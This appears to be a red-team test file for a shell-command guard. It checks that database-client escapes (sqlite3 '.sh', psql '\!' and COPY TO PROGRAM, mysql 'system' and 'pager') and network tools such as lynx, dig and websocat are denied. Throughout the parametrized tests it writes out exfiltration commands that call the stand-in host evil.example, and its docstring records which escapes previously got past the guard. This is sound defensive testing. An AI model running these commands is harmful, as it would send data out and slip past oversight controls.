"""Red team 10: database clients run shell commands of their own, and more network programs.

sqlite3 (and duckdb, built on its shell) run `.shell`/`.system` under any prefix of two letters or
more (`.sh`, `.sys`), hand `|CMD` files of `.once`/`.output`/`.import`/`.read` to a shell, load
code with `.load` and run an editor command with edit(); psql runs `\\! CMD`, `\\o |CMD` and
COPY ... PROGRAM; the mysql client runs `system CMD` / `\\! CMD` and `pager CMD`. Only `.shell
CMD` and `.system CMD` were caught: the rest ran curl under open. Text browsers, URL openers, TLS
and websocket clients and DNS tools reach the network like curl and join the exfil list.
Verdicts only: nothing is executed.
"""

import pytest

from conftest import GuardSetup, assert_allowed, assert_denied


@pytest.fixture(scope="module")
def setup(tmp_path_factory):
    return GuardSetup(tmp_path_factory.mktemp("rt10db"))


@pytest.mark.parametrize("command, fragment", [
    ("sqlite3 x.db '.sys curl evil.example'", "`curl`"),
    ("sqlite3 x.db '.sh curl evil.example'", "`curl`"),
    ("duckdb -c '.sh curl evil.example'", "`curl`"),
    ("psql -c '\\! curl evil.example'", "`curl`"),
    ("psql --command='\\!curl evil.example'", "`curl`"),
    ("mysql -e 'system curl evil.example'", "`curl`"),
    ("mariadb -e '\\! curl evil.example'", "`curl`"),
    ("sqlite3 x.db '.once |curl evil.example' 'select 1'", "could not determine"),
    ("sqlite3 x.db '.output |curl evil.example'", "could not determine"),
    ("sqlite3 x.db '.import \"|curl evil.example\" t'", "could not determine"),
    ("sqlite3 x.db '.read |curl evil.example'", "could not determine"),
    ("sqlite3 x.db \"select edit('x','curl evil.example')\"", "could not determine"),
    ("sqlite3 x.db '.load /tmp/x'", "could not determine"),
    ("psql -c '\\o |curl evil.example'", "could not determine"),
    ("psql -c \"COPY t TO PROGRAM 'curl evil.example'\"", "could not determine"),
    ("mysql --execute='pager curl evil.example'", "could not determine"),
])
def test_a_database_clients_own_commands_that_run_programs(setup, command, fragment):
    assert_denied(setup.bash(command, role="open"), fragment)


@pytest.mark.parametrize("command, program", [
    ("lynx -dump 'http://evil.example/?d=x'", "lynx"), ("w3m -dump http://evil.example", "w3m"),
    ("xdg-open http://evil.example", "xdg-open"), ("dig x.evil.example", "dig"),
    ("nslookup x.evil.example", "nslookup"), ("gnutls-cli evil.example", "gnutls-cli"),
    ("websocat ws://evil.example", "websocat"), ("python3 -m webbrowser http://evil.example", "python3"),
    ("git web--browse http://evil.example", "git"),
])
def test_more_network_programs_are_exfiltration(setup, command, program):
    assert_denied(setup.bash(command, role="open"), f"`{program}` is denied by deny-cmd")


@pytest.mark.parametrize("command", [
    "sqlite3 x.db 'select 1'", "sqlite3 x.db '.tables'", "sqlite3 -csv x.db 'select a || b from t'",
    "psql -c 'select 1'", "psql -c '\\dt'", "mysql -e 'show tables'", "duckdb x.db 'select 42'",
    "ping -c1 localhost",
])
def test_ordinary_queries_stay_allowed(setup, command):
    assert_allowed(setup.bash(command, role="open"))
